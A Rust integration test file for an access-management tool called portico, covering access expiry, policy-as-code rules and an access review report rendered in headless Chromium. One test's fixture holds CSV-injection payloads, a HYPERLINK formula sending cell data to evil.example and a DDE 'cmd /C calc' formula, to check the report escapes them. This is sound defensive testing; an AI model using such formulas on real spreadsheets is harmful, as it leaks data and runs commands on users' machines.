//! Time-bound access (with the test clock `PORTICO_NOW`), access policies as code, and the
//! access review report, checked in a real headless Chromium.

use std::time::Instant;

use crate::common::browser::Browser;
use crate::common::{Env, STATUS, b, run};

crate::common::on_every_engine!(
    access_expires_at_the_end_of_its_day_and_apply_revokes_it,
    policies_are_stored_planned_and_explained,
);

const PW: &str = "a-long-enough-password";

/// Runs portico at `now`: `PORTICO_NOW` for read-only commands, `--now` for apply (which
/// ignores `PORTICO_NOW`).
fn at(env: &Env, now: &str, args: &[&str]) -> (i32, String, String) {
    let mut args = args.to_vec();
    if args[0] == "apply" {
        args.extend(["--now", now]);
    }
    let mut cmd = env.portico(&args);
    cmd.env("PORTICO_NOW", now).env("PW", PW);
    run(cmd)
}

const CONTRACTOR: &str = "\
features: { customer_access: true }
notifications:
  url: http://127.0.0.1:9/portico
  login_url: https://customers.example.com/login
customers:
  - id: C1
    name: Contractor Co
    email: boss@contractor.example
    access: { give_access: true, password: { env: PW } }
    contacts:
      - email: temp@contractor.example
        access: true
        notify: true
        expires: 2027-03-31
      - { email: perm@contractor.example, access: true, password: { env: PW } }
";

fn access_expires_at_the_end_of_its_day_and_apply_revokes_it(env: Env) {
    env.write("a.yaml", CONTRACTOR);
    let apply = ["apply", "-f", "manifests", "--auto-approve"];
    let (code, _, err) = at(&env, "2027-03-01T00:00:00Z", &apply);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        env.rows("SELECT email || ' ' || coalesce(expires_at, '-') FROM logins ORDER BY email"),
        [
            "boss@contractor.example -",
            "perm@contractor.example -",
            "temp@contractor.example 2027-03-31T23:59:59Z"
        ]
    );
    // A set-password link is outstanding (the notification is queued).
    let plan = ["plan", "-f", "manifests", "--detailed-exitcode"];

    // The day before: no change, a warning in every format.
    let (code, out, _) = at(&env, "2027-03-30T12:00:00Z", &plan);
    assert_eq!(code, 0, "{out}");
    assert!(
        out.contains("warning: access of temp@contractor.example expires 2027-03-31 (tomorrow)"),
        "{out}"
    );
    let (_, json, _) = at(
        &env,
        "2027-03-30T12:00:00Z",
        &["plan", "-f", "manifests", "--format", "json"],
    );
    assert!(json.contains("expires 2027-03-31 (tomorrow)"), "{json}");
    let (_, md, _) = at(
        &env,
        "2027-03-30T12:00:00Z",
        &["plan", "-f", "manifests", "--format", "markdown"],
    );
    assert!(md.contains("expires 2027-03-31 (tomorrow)"), "{md}");
    let (_, out, _) = at(
        &env,
        "2027-03-30T12:00:00Z",
        &["plan", "-f", "manifests", "--warn-expiring", "1"],
    );
    assert!(!out.contains("tomorrow"), "outside the window: {out}");
    let (_, out, _) = at(&env, "2027-03-10T00:00:00Z", &plan);
    assert!(
        !out.contains("warning: access of temp"),
        "three weeks ahead: {out}"
    );

    // On the day, until its last second: still no change.
    let (code, out, _) = at(&env, "2027-03-31T23:59:58Z", &plan);
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("(today)"), "{out}");

    // The customer center can refuse it before the next apply runs.
    let (_, out, _) = at(
        &env,
        "2027-04-01T00:00:00Z",
        &["access", "temp@contractor.example"],
    );
    assert!(out.contains("access expired 2027-03-31"), "{out}");

    // After: revoked, with the reason, and the link and queued message go with it.
    let (code, out, err) = at(&env, "2027-04-01T00:00:00Z", &plan);
    assert_eq!(code, 2, "{out}{err}");
    assert!(
        out.contains("! revoke customer[\"C1\"].contact[\"temp@contractor.example\"]  (access expired 2027-03-31)"),
        "{out}"
    );
    assert!(
        out.contains("Plan: 0 to create, 0 to update, 1 to revoke, 0 to delete."),
        "{out}"
    );
    assert!(
        err.contains(
            "access of temp@contractor.example expired 2027-03-31: this login loses access"
        ),
        "{err}"
    );
    let (_, json, _) = at(
        &env,
        "2027-04-01T00:00:00Z",
        &["plan", "-f", "manifests", "--format", "json"],
    );
    assert!(
        json.contains("\"reason\": \"access expired 2027-03-31\""),
        "{json}"
    );
    let (code, _, err) = at(&env, "2027-04-01T00:00:00Z", &apply);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        env.rows(&format!(
            "SELECT email || ' ' || {} FROM logins ORDER BY email",
            b("access")
        )),
        [
            "boss@contractor.example 1",
            "perm@contractor.example 1",
            "temp@contractor.example 0"
        ]
    );
    assert_eq!(
        env.rows(&format!(
            "SELECT {STATUS} FROM notifications WHERE coalesce(email, contact) = 'temp@contractor.example'"
        )),
        ["cancelled"]
    );
    // A daily run afterwards has nothing to do.
    let (code, out, _) = at(&env, "2027-04-02T00:00:00Z", &plan);
    assert_eq!(code, 0, "{out}");
}

#[test]
fn expiry_values_are_checked_and_inherited() {
    let env = Env::sqlite();
    env.write(
        "a.yaml",
        "features: { customer_access: true }\ncustomers:\n  - id: C1\n    name: C\n    email: a@c.example\n    access: { give_access: true, expires: 2027-02-30, password: { env: PW } }\n",
    );
    let (code, _, err) = at(
        &env,
        "2027-01-01T00:00:00Z",
        &["validate", "-f", "manifests"],
    );
    assert_eq!(code, 1);
    assert!(err.contains("`2027-02-30` is not a date"), "{err}");
    assert!(err.contains("a.yaml:6:"), "{err}");

    // A contact without its own expiry inherits its customer's.
    env.write(
        "a.yaml",
        "features: { customer_access: true }\ncustomers:\n  - id: C1\n    name: C\n    email: a@c.example\n    access: { give_access: true, expires: \"2027-06-30T12:00:00+02:00\", password: { env: PW } }\n    contacts:\n      - { email: b@c.example, access: true, password: { env: PW } }\n",
    );
    let (code, out, err) = at(&env, "2027-01-01T00:00:00Z", &["plan", "-f", "manifests"]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        out.matches("expires  = 2027-06-30T10:00:00Z").count(),
        2,
        "{out}"
    );

    let (code, _, err) = at(&env, "not a time", &["plan", "-f", "manifests"]);
    assert_eq!(code, 1);
    assert!(
        err.contains("PORTICO_NOW: `not a time` is not a date"),
        "{err}"
    );
}

const POLICY_ACCOUNT: &str = "\
features: { customer_access: true, two_factor_authentication: true }
roles:
  - { id: finance-ok, name: Finance, base: customer_center, two_factor: required, permissions: { customer_payment: edit } }
  - { id: no-pay, name: No payments, base: customer_center, permissions: { customer_payment: none } }
customers:
  - id: C1
    name: Acme
    email: ap@acme.example
    access: { give_access: true, role: finance-ok, password: { env: PW } }
    contacts:
      - { email: jane@acme.example, access: true, role: no-pay, password: { env: PW } }
      - { email: raj@partners.example, access: true, role: no-pay, password: { env: PW } }
      - { email: info@acme.example, access: false }
";

/// Each rule kind, a manifest that keeps it, and a change that breaks it with where.
#[test]
fn each_policy_kind_passes_and_fails_at_the_offending_login() {
    let cases: &[(&str, &str, &str, &str)] = &[
        (
            "max_level: { permission: customer_payment, level: view, except_roles: [finance-ok] }",
            "role: no-pay, password: { env: PW } }",
            "role: customer_center, password: { env: PW } }",
            "jane@acme.example has `customer_payment` at edit through role `customer_center` (the limit is view)",
        ),
        (
            "require_two_factor: { when: { permission: customer_payment, at_least: edit } }",
            "role: no-pay, password: { env: PW } }",
            "role: customer_center, password: { env: PW } }",
            "which does not require two-factor authentication",
        ),
        (
            "forbid_emails: { patterns: [\"info@*\", \"*@GMAIL.com\"] }",
            "role: no-pay, password: { env: PW } }",
            "role: no-pay, password: { env: PW } }\n      - { email: Someone@gmail.com, access: true, password: { env: PW } }",
            "someone@gmail.com matches the forbidden pattern `*@GMAIL.com`",
        ),
        (
            "allowed_email_domains: { customer_email_domain: true, domains: [partners.example] }",
            "role: no-pay, password: { env: PW } }",
            "role: no-pay, password: { env: PW } }\n      - { email: x@elsewhere.example, access: true, password: { env: PW } }",
            "x@elsewhere.example is not in an allowed domain (partners.example, the customer's own domain acme.example)",
        ),
        (
            "max_logins_per_customer: 3",
            "role: no-pay, password: { env: PW } }",
            "role: no-pay, password: { env: PW } }\n      - { email: four@acme.example, access: true, password: { env: PW } }",
            "customer `C1` has 4 logins with access (the limit is 3)",
        ),
    ];
    for (rule, keep, bad, says) in cases {
        let env = Env::sqlite();
        let policy =
            format!("policies:\n  - id: rule-under-test\n    message: the message\n    {rule}\n");
        let jane = "role: no-pay, password: { env: PW } }";
        env.write("policies.yaml", &policy);
        env.write("a.yaml", &POLICY_ACCOUNT.replacen(jane, keep, 1));
        let (code, _, err) = at(
            &env,
            "2027-01-01T00:00:00Z",
            &["validate", "-f", "manifests"],
        );
        assert_eq!(code, 0, "{rule} should pass: {err}");

        env.write("a.yaml", &POLICY_ACCOUNT.replacen(jane, bad, 1));
        let (code, _, err) = at(
            &env,
            "2027-01-01T00:00:00Z",
            &["validate", "-f", "manifests"],
        );
        assert_eq!(code, 1, "{rule} should fail");
        assert!(
            err.contains("error: policy `rule-under-test` (the message): ") && err.contains(says),
            "{rule}: {err}"
        );
        assert!(
            err.contains("--> manifests/a.yaml:"),
            "{rule}: located: {err}"
        );

        // A migration period: warnings, exit 0.
        let (code, _, err) = at(
            &env,
            "2027-01-01T00:00:00Z",
            &["validate", "-f", "manifests", "--policy-warn-only"],
        );
        assert_eq!(code, 0, "{rule}: {err}");
        assert!(
            err.contains("warning: policy `rule-under-test` (the message): "),
            "{err}"
        );
    }
}

#[test]
fn policies_themselves_are_validated() {
    let env = Env::sqlite();
    env.write(
        "a.yaml",
        "features: { customer_access: true }\ncustomers: []\n",
    );
    for (policy, says) in [
        (
            "max_level: { permission: customer_paymnt, level: view }",
            "customer_paymnt",
        ),
        (
            "forbid_emails: { patterns: [\"info@[*\"] }",
            "`info@[*` is not a valid pattern",
        ),
        (
            "max_logins_per_customer: 2\n    forbid_emails: { patterns: [\"a@*\"] }",
            "needs exactly one rule",
        ),
        (
            "allowed_email_domains: {}",
            "as written no email is allowed",
        ),
        ("max_logins_per_customer: 0", "must be at least 1"),
    ] {
        env.write(
            "policies.yaml",
            &format!("policies:\n  - id: p\n    message: m\n    {policy}\n"),
        );
        let (code, _, err) = at(
            &env,
            "2027-01-01T00:00:00Z",
            &["validate", "-f", "manifests"],
        );
        assert_eq!(code, 1, "{policy}");
        assert!(err.contains(says), "{policy}: {err}");
        assert!(err.contains("policies.yaml:"), "{policy}: {err}");
    }
}

fn policies_are_stored_planned_and_explained(env: Env) {
    env.write("a.yaml", POLICY_ACCOUNT);
    env.write(
        "policies.yaml",
        "policies:\n  - id: payments-need-approval\n    message: only finance-approved roles may pay online\n    max_level: { permission: customer_payment, level: view, except_roles: [finance-ok] }\n",
    );
    let (code, out, err) = at(&env, "2027-01-01T00:00:00Z", &["plan", "-f", "manifests"]);
    assert_eq!(code, 0, "{err}");
    assert!(
        out.contains("+ create policy[\"payments-need-approval\"]"),
        "{out}"
    );
    assert!(out.contains("kind    = max_level"), "{out}");
    let (code, _, err) = at(
        &env,
        "2027-01-01T00:00:00Z",
        &["apply", "-f", "manifests", "--auto-approve"],
    );
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        env.rows("SELECT id || ' ' || message FROM policies"),
        ["payments-need-approval only finance-approved roles may pay online"]
    );
    // `access` explains the policies in force.
    let (_, out, _) = at(&env, "2027-01-01T00:00:00Z", &["access", "ap@acme.example"]);
    assert!(
        out.contains("policy:           payments-need-approval — kept"),
        "{out}"
    );
    // Manifests that do not manage policies are still held to the live ones.
    env.remove("policies.yaml");
    env.write(
        "a.yaml",
        &POLICY_ACCOUNT.replacen("role: no-pay", "role: customer_center", 1),
    );
    let (code, _, err) = at(&env, "2027-01-01T00:00:00Z", &["plan", "-f", "manifests"]);
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("policy `payments-need-approval`"), "{err}");
    // Export writes them back.
    let (code, _, err) = at(
        &env,
        "2027-01-01T00:00:00Z",
        &["export", "--out", "exported"],
    );
    assert_eq!(code, 0, "{err}");
    let exported = std::fs::read_to_string(env.path("exported/policies.yaml")).unwrap();
    assert!(
        exported.contains("id: payments-need-approval"),
        "{exported}"
    );
    assert!(
        exported.contains("except_roles:\n    - finance-ok"),
        "{exported}"
    );
}

/// An account for the report: roles with and without payments and 2FA, two websites, a
/// locked login, one that logged in, one expiring, one without access.
const REPORT_ACCOUNT: &str = "\
features: { customer_access: true, websites: true, two_factor_authentication: true, online_customer_payments: true }
websites:
  - { id: eu, name: EU Store, url: https://eu.example.com }
  - { id: us, name: US Store, url: https://us.example.com }
roles:
  - { id: finance, name: Finance, base: customer_center, two_factor: required, permissions: { customer_payment: edit } }
  - { id: viewer, name: Viewer, base: customer_center, permissions: { customer_payment: none, sales_order: view } }
customers:
  - id: C1
    name: Acme <Ltd>
    email: ap@acme.example
    access: { give_access: true, role: finance, website: eu, password: { env: PW } }
    contacts:
      - { email: jane@acme.example, name: Jane Doe, access: true, role: viewer, password: { env: PW } }
      - { email: raj@acme.example, name: Raj Patel, access: true, expires: 2027-01-05, password: { env: PW } }
      - { email: old@acme.example, access: false }
  - id: C2
    name: Beta Inc
    email: buyer@beta.example
    access: { give_access: true, website: us, password: { env: PW } }
";

#[test]
fn the_report_shows_every_login_and_filters_in_a_real_browser() {
    let env = Env::sqlite();
    env.write("a.yaml", REPORT_ACCOUNT);
    let now = "2027-01-01T00:00:00Z";
    let (code, _, err) = at(&env, now, &["apply", "-f", "manifests", "--auto-approve"]);
    assert_eq!(code, 0, "{err}");
    env.sql("UPDATE logins SET locked_until = '2027-01-01T01:00:00Z', failed_attempts = 3 WHERE email = 'jane@acme.example'");
    env.sql("UPDATE logins SET last_login_at = '2026-12-24T09:30:00Z' WHERE email = 'buyer@beta.example'");
    // Raj was invited and never set a password.
    env.sql("UPDATE logins SET password_hash = NULL WHERE email = 'raj@acme.example'");
    let (code, _, err) = at(&env, now, &["report", "--out", "access.html"]);
    assert_eq!(code, 0, "{err}");
    let page = std::fs::read_to_string(env.path("access.html")).unwrap();
    assert!(!page.contains("<Ltd>"), "values are escaped");
    assert!(
        !page.contains("http://") && !page.contains("https://eu"),
        "nothing to fetch"
    );

    let browser = Browser::start();
    browser.open(&format!("file://{}", env.path("access.html").display()));
    let text = browser.text();
    for figure in [
        "4\nlogins with access",
        "2\ncan sign in now",
        "1\ninvited, no password yet",
        "2\nwith two-factor",
        "3\ncan pay online",
        "1\nlocked",
        "3\nnever logged in",
        "1\nexpiring within 14 days",
    ] {
        assert!(text.contains(figure), "summary lacks {figure:?}: {text}");
    }
    assert!(
        text.contains("By role: Customer Center: 1 · Finance: 2 · Viewer: 1"),
        "{text}"
    );
    // At 1400 px every permission column is on screen, under a header of modest height.
    let layout = browser.eval(
        "const ths = [...document.querySelectorAll('th.lvl')];
         return { right: Math.max(...ths.map(t => t.getBoundingClientRect().right)),
                  width: window.innerWidth,
                  header: document.querySelector('thead').getBoundingClientRect().height };",
    );
    assert!(
        layout["right"].as_f64().unwrap() <= layout["width"].as_f64().unwrap(),
        "{layout}"
    );
    assert!(layout["header"].as_f64().unwrap() < 200.0, "{layout}");
    let rows = browser.rows();
    assert_eq!(rows.len(), 4, "logins with access, by default: {rows:?}");
    let find =
        |rows: &[Vec<String>], email: &str| rows.iter().find(|r| r[0] == email).cloned().unwrap();
    // Columns: email, customer, role, the 12 permissions, access, can sign in, password,
    // 2FA, locked, last login, expires, website, name, changed by.
    let ap = find(&rows, "ap@acme.example");
    assert_eq!(ap[1], "Acme <Ltd> (C1)");
    assert_eq!(
        (ap[2].as_str(), ap[22].as_str(), ap[18].as_str()),
        ("Finance", "EU Store", "yes")
    );
    let payment = 3 + 3; // customer_payment is the fourth permission column
    assert_eq!(ap[payment], "edit");
    assert_eq!((ap[16].as_str(), ap[17].as_str()), ("yes", "set"));
    assert!(ap[24].starts_with("apply 1"), "{ap:?}");
    let jane = find(&rows, "jane@acme.example");
    assert_eq!(jane[payment], "none");
    assert_eq!(
        (jane[19].as_str(), jane[16].as_str()),
        ("yes", "no"),
        "locked"
    );
    assert_eq!(jane[23], "Jane Doe");
    let raj = find(&rows, "raj@acme.example");
    assert_eq!(raj[21], "2027-01-05");
    assert_eq!(
        (raj[16].as_str(), raj[17].as_str()),
        ("no", "not set"),
        "invited"
    );
    assert_eq!(
        find(&rows, "buyer@beta.example")[20],
        "2026-12-24T09:30:00Z"
    );

    // Typing in the search box filters rows.
    browser.type_into("#search", "raj");
    let rows = browser.rows();
    assert_eq!(rows.len(), 1, "{rows:?}");
    assert_eq!(rows[0][0], "raj@acme.example");
    assert!(browser.text().contains("1 of 5 logins"));
    browser.clear("#search");
    browser.type_into("#search", "beta");
    assert_eq!(browser.rows().len(), 1);
    browser.clear("#search");
    browser.type_into("#search", " ");

    // Filters: can pay, no 2FA, role, without-access.
    browser.click("#pay");
    let emails = |rows: Vec<Vec<String>>| {
        let mut e: Vec<String> = rows.into_iter().map(|r| r[0].clone()).collect();
        e.sort();
        e
    };
    assert_eq!(
        emails(browser.rows()),
        ["ap@acme.example", "buyer@beta.example", "raj@acme.example"]
    );
    browser.click("#no2fa");
    assert_eq!(
        emails(browser.rows()),
        ["buyer@beta.example"],
        "raj inherits Finance, with 2FA"
    );
    browser.click("#pay");
    browser.click("#no2fa");
    browser.click("#access");
    assert_eq!(browser.rows().len(), 5, "with the login that has no access");

    // Sorting by a column header.
    browser.click("th[data-col='0']");
    let sorted = browser
        .rows()
        .into_iter()
        .map(|r| r[0].clone())
        .collect::<Vec<_>>();
    let mut expected = sorted.clone();
    expected.sort();
    assert_eq!(sorted, expected);
    browser.click("th[data-col='0']");
    assert_eq!(
        browser.rows()[0][0],
        "raj@acme.example",
        "a second click reverses"
    );

    // Nothing left the page: no resource was fetched.
    let fetched = browser.eval("return performance.getEntriesByType('resource').length");
    assert_eq!(fetched, 0);

    // The README's screenshot is taken the same way.
    if std::env::var_os("PORTICO_UPDATE_SCREENSHOT").is_some() {
        browser.click("#access");
        browser.click("th[data-col='0']");
        let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/report.png");
        std::fs::write(path, browser.screenshot()).unwrap();
    }

    // CSV: the same matrix.
    let (code, csv, _) = at(&env, now, &["report", "--format", "csv", "--out", "-"]);
    assert_eq!(code, 0);
    let lines: Vec<&str> = csv.lines().collect();
    assert_eq!(lines.len(), 6, "{csv}");
    assert!(lines[0].starts_with("email,name,customer_id,customer,kind,access,role,website"));
    assert!(
        csv.contains("ap@acme.example,,C1,Acme <Ltd>,customer,yes,Finance,EU Store,yes,no,,,yes,"),
        "{csv}"
    );
    assert!(
        lines[0].ends_with(",can_log_in,password_set,changed_by"),
        "{csv}"
    );
    let raj = lines.iter().find(|l| l.starts_with("raj@")).unwrap();
    assert!(raj.ends_with(",no,no,apply 1"), "{raj}");

    // With Online Customer Payments off, nobody can pay online, whatever the roles grant.
    env.write(
        "a.yaml",
        &REPORT_ACCOUNT.replace(", online_customer_payments: true", ""),
    );
    let (code, _, err) = at(&env, now, &["apply", "-f", "manifests", "--auto-approve"]);
    assert_eq!(code, 0, "{err}");
    let (code, csv, _) = at(&env, now, &["report", "--format", "csv", "--out", "-"]);
    assert_eq!(code, 0);
    let ap: Vec<&str> = csv
        .lines()
        .find(|l| l.starts_with("ap@"))
        .unwrap()
        .split(',')
        .collect();
    assert_eq!(
        (ap[12], ap[16]),
        ("no", "none"),
        "can_pay, customer_payment: {csv}"
    );
    let (code, out, err) = at(&env, now, &["access", "ap@acme.example"]);
    assert_eq!(code, 0, "{err}");
    assert!(
        out.contains(
            "customer_payment       none    from feature online_customer_payments is off ("
        ),
        "{out}"
    );
}

#[test]
fn a_large_report_opens_in_the_browser() {
    const CUSTOMERS: usize = 2_000;
    const CONTACTS: usize = 9;
    let env = Env::sqlite();
    // Notified logins (queued only: the test environment never delivers) need no password
    // hashing, which would dominate the test's time.
    let mut text = String::from(
        "features: { customer_access: true }\nnotifications: { url: http://127.0.0.1:9/hook, login_url: https://c.example/login }\ncustomers:\n",
    );
    for c in 0..CUSTOMERS {
        text.push_str(&format!(
            "  - id: C{c:05}\n    name: Customer {c}\n    email: own{c}@example.com\n    access: {{ give_access: true, notify: true }}\n    contacts:\n"
        ));
        for i in 0..CONTACTS {
            text.push_str(&format!(
                "      - {{ email: u{c}x{i}@example.com, access: true, notify: true }}\n"
            ));
        }
    }
    env.write("a.yaml", &text);
    let (code, _, err) = at(
        &env,
        "2027-01-01T00:00:00Z",
        &["apply", "-f", "manifests", "--auto-approve"],
    );
    assert_eq!(code, 0, "{err}");
    let (code, _, err) = at(
        &env,
        "2027-01-01T00:00:00Z",
        &["report", "--out", "big.html"],
    );
    assert_eq!(code, 0, "{err}");
    let logins = CUSTOMERS * (CONTACTS + 1);
    let browser = Browser::start();
    let started = Instant::now();
    let ready = browser.open(&format!("file://{}", env.path("big.html").display()));
    eprintln!("{logins} logins: the report opened in {ready:?}");
    assert!(
        browser
            .text()
            .contains(&format!("{logins} of {logins} logins"))
    );
    assert_eq!(
        browser.rows().len(),
        100,
        "one page is rendered, not {logins} rows"
    );
    assert!(browser.text().contains("page 1 of 200"));
    browser.click("#next");
    assert!(browser.text().contains("page 2 of 200"));
    browser.type_into("#search", "u1999x8@");
    assert_eq!(browser.rows().len(), 1);
    eprintln!("and answered a search within {:?}", started.elapsed());
}

#[test]
fn the_csv_report_never_hands_a_spreadsheet_a_formula() {
    let env = Env::sqlite();
    env.write(
        "a.yaml",
        "features: { customer_access: true }\ncustomers:\n  - id: '=HYPERLINK(\"http://evil.example/?\"&A1)'\n    name: '@SUM(A1:A9)'\n    email: ap@acme.example\n    access: { give_access: true, password: { env: PW } }\n    contacts:\n      - { email: x@acme.example, name: '-2+3+cmd|'' /C calc''!A0', access: true, password: { env: PW } }\n      - { email: y@acme.example, name: \"+1\", access: true, password: { env: PW } }\n",
    );
    let now = "2027-01-01T00:00:00Z";
    let (code, _, err) = at(&env, now, &["apply", "-f", "manifests", "--auto-approve"]);
    assert_eq!(code, 0, "{err}");
    let (code, csv, err) = at(&env, now, &["report", "--format", "csv", "--out", "-"]);
    assert_eq!(code, 0, "{err}");
    let mut reader = ::csv::Reader::from_reader(csv.as_bytes());
    let mut cells = 0;
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            cells += 1;
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a formula cell: {cell:?} in\n{csv}"
            );
        }
    }
    assert!(cells > 0);
    // The sign-in decision's answer has its column: every login here may get in.
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let column = reader
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == "can_log_in")
        .unwrap();
    let can_log_in = |csv: &str, email: &str| {
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        reader
            .records()
            .map(Result::unwrap)
            .find(|r| &r[0] == email)
            .map(|r| r[column].to_string())
            .unwrap()
    };
    for email in ["ap@acme.example", "x@acme.example", "y@acme.example"] {
        assert_eq!(can_log_in(&csv, email), "yes", "{csv}");
    }
    assert!(csv.contains("'=HYPERLINK("), "{csv}");
    // A lockout recorded by the customer center: locked, and the decision says no.
    env.sql("UPDATE logins SET locked_until = '2999-01-01T00:00:00Z', failed_attempts = 5 WHERE email = 'x@acme.example'");
    let (_, csv, _) = at(&env, now, &["report", "--format", "csv", "--out", "-"]);
    let x = csv
        .lines()
        .find(|l| l.starts_with("x@acme.example"))
        .unwrap();
    assert_eq!(can_log_in(&csv, "x@acme.example"), "no", "{csv}");
    assert!(x.contains(",yes,,,"), "locked: {x}");
    assert!(csv.contains("'@SUM(A1:A9)"), "{csv}");
    assert!(csv.contains("'-2+3+cmd|"), "{csv}");
}

#[test]
fn a_leftover_portico_now_never_moves_an_apply() {
    let env = Env::sqlite();
    // Expired before the real clock (the tests run after 2026-01-01).
    env.write(
        "a.yaml",
        &CONTRACTOR.replace("expires: 2027-03-31", "expires: 2026-01-01"),
    );
    let apply = ["apply", "-f", "manifests", "--auto-approve"];
    let mut cmd = env.portico(&apply);
    cmd.env("PW", PW);
    let (code, _, err) = run(cmd);
    assert_eq!(code, 0, "{err}");
    let granted = format!(
        "SELECT email FROM logins WHERE {} = '1' ORDER BY email",
        b("access")
    );
    let before = env.rows(&granted);
    assert!(
        !before.contains(&"temp@contractor.example".to_string()),
        "{before:?}"
    );
    let queued = env.rows("SELECT coalesce(email, contact) FROM notifications");

    // A PORTICO_NOW left in the environment: ignored, with a warning.
    let mut cmd = env.portico(&apply);
    cmd.env("PW", PW).env("PORTICO_NOW", "2025-06-01");
    let (code, out, err) = run(cmd);
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("PORTICO_NOW is ignored"), "{err}");
    assert!(out.contains("No changes"), "{out}");
    assert_eq!(env.rows(&granted), before, "expired access re-granted");
    assert_eq!(
        env.rows("SELECT coalesce(email, contact) FROM notifications"),
        queued,
        "mail queued"
    );

    // Plan (read-only) still answers what-if questions with it.
    let mut cmd = env.portico(&["plan", "-f", "manifests"]);
    cmd.env("PW", PW).env("PORTICO_NOW", "2025-06-01");
    let (_, out, err) = run(cmd);
    assert!(out.contains("temp@contractor.example"), "{out}");
    assert!(
        err.contains("note: planning as of 2025-06-01T23:59:59Z (PORTICO_NOW)"),
        "{err}"
    );

    // An explicit --now moves it, says so, and history records it.
    let mut cmd = env.portico(&[&apply[..], &["--now", "2025-06-01"]].concat());
    cmd.env("PW", PW);
    let (code, _, err) = run(cmd);
    assert_eq!(code, 0, "{err}");
    assert!(
        err.contains("applying as of 2025-06-01T23:59:59Z (--now)"),
        "{err}"
    );
    let (_, out, _) = run(env.portico(&["history", "show", "2"]));
    assert!(
        out.contains("clock:            2025-06-01T23:59:59Z"),
        "{out}"
    );
    let (_, out, _) = run(env.portico(&["history", "show", "1"]));
    assert!(!out.contains("clock:"), "{out}");
}

#[test]
fn forbidden_emails_are_matched_without_tags_and_by_lookalikes() {
    for email in ["admin+ops@acme.example", "\u{0430}dmin@acme.example"] {
        let env = Env::sqlite();
        env.write(
            "a.yaml",
            &format!(
                "features: {{ customer_access: true }}\npolicies:\n  - id: no-shared\n    message: shared mailboxes may not log in\n    forbid_emails: {{ patterns: [\"admin@*\"] }}\ncustomers:\n  - id: C1\n    name: Acme\n    email: '{email}'\n    access: {{ give_access: true, password: {{ env: PW }} }}\n"
            ),
        );
        let (code, out, err) = at(
            &env,
            "2027-01-01T00:00:00Z",
            &["validate", "-f", "manifests"],
        );
        assert_eq!(code, 1, "{email}: {out}{err}");
        assert!(
            err.contains("matches the forbidden pattern `admin@*`"),
            "{email}: {err}"
        );
    }
}
